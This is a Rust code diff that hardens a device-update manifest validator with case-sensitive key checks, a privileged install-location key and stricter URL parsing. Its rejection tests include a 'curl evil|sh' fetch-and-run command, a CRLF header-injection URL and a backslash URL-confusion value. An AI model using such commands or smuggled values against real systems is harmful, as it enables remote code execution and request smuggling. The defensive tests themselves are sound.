@@ -37,8 +37,26 @@ pub const STRING_FIELDS: [&str; 7] = [
     "restore",
 ];
 
-/// The keys whose values are commands a device runs.
-pub const HOOK_FIELDS: [&str; 3] = ["BeforeUpdate", "AfterUpdate", "restore"];
+/// The keys that decide what a device runs and where it writes: the hook
+/// commands and the install location. Setting them takes a key with a
+/// `hooks:` scope for the package.
+pub const HOOK_FIELDS: [&str; 4] = ["BeforeUpdate", "AfterUpdate", "restore", "local"];
+
+/// Every key this format defines (a key equal to one of these but for
+/// case is refused: a device that matched keys loosely would act on it).
+pub const KNOWN_FIELDS: [&str; 11] = [
+    "package",
+    "version",
+    "sha256",
+    "branch",
+    "description",
+    "local",
+    "remote",
+    "BeforeUpdate",
+    "AfterUpdate",
+    "restore",
+    "dependencies",
+];
 
 /// A validated content.json.
 #[derive(Clone, Debug, PartialEq)]
@@ -106,6 +124,17 @@ impl Content {
                     Some(_) => Err(invalid(key, "must be a string")),
                 }
             };
+        for key in map.keys() {
+            if let Some(known) = KNOWN_FIELDS
+                .iter()
+                .find(|k| k.eq_ignore_ascii_case(key) && **k != key.as_str())
+            {
+                return Err(invalid(
+                    key,
+                    format!("did you mean {known:?}? (keys are case-sensitive)"),
+                ));
+            }
+        }
         let package = required(&map, "package")?;
         check_name("package", &package).map_err(|e| invalid("package", e.to_string()))?;
         let version = Version::parse(&required(&map, "version")?)
@@ -164,7 +193,7 @@ impl Content {
     pub fn remote(&self) -> Option<&str> {
         self.map.get("remote").and_then(Value::as_str)
     }
-    /// The hook keys present with a non-empty command.
+    /// The privileged keys present with a non-empty value ([`HOOK_FIELDS`]).
     pub fn hooks(&self) -> Vec<&'static str> {
         HOOK_FIELDS
             .into_iter()
@@ -219,6 +248,22 @@ pub fn check_local(path: &str) -> Result<(), String> {
 /// Checks a download URL: `http` or `https`, with a host, without
 /// credentials (devices would send them to whoever serves the URL).
 pub fn check_remote(remote: &str) -> Result<(), String> {
+    // Parsers differ on these (a URL library may drop or re-read them, a
+    // device's may not), so they are refused rather than normalised.
+    if remote
+        .chars()
+        .any(|c| c.is_control() || c.is_whitespace() || c == '\\')
+    {
+        return Err("must not contain spaces, control characters or backslashes".into());
+    }
+    if remote
+        .split_once("://")
+        .is_none_or(|(_, rest)| rest.starts_with('/') || rest.is_empty())
+    {
+        return Err(format!(
+            "{remote:?} must be an http:// or https:// URL with a host"
+        ));
+    }
     let url = url::Url::parse(remote).map_err(|e| format!("{remote:?} is not a URL: {e}"))?;
     if !matches!(url.scheme(), "http" | "https") {
         return Err(format!("{remote:?} must be an http:// or https:// URL"));
@@ -265,6 +310,15 @@ mod tests {
         .unwrap();
         assert!(c.as_map().contains_key("x-extra"));
         assert_eq!(c.hooks(), ["BeforeUpdate"]);
+        let located = parse(&format!(
+            r#"{{"package":"app","version":"1","sha256":"{H}","local":"/opt/app"}}"#
+        ))
+        .unwrap();
+        assert_eq!(
+            located.hooks(),
+            ["local"],
+            "the install location is privileged"
+        );
         let ok = parse(&format!(
             r#"{{"package":"app","version":"1","sha256":"{H}","local":"/opt/app","remote":"https://cdn.example.com/a?b=1"}}"#
         ))
@@ -289,6 +343,11 @@ mod tests {
             ("remote", "\"ftp://h/x\""),
             ("remote", "\"https://user:pw@h/x\""),
             ("remote", "\"not a url\""),
+            ("remote", "\"http://h/a\\r\\nX: y\""),
+            ("remote", "\"http://evil.com\\\\@good.com/x\""),
+            ("remote", "\"http:///x\""),
+            ("Beforeupdate", "\"curl evil|sh\""),
+            ("RESTORE", "\"x\""),
         ] {
             let mut m: Map<String, Value> = serde_json::from_str(&format!(
                 r#"{{"package":"app","version":"1","sha256":"{H}"}}"#
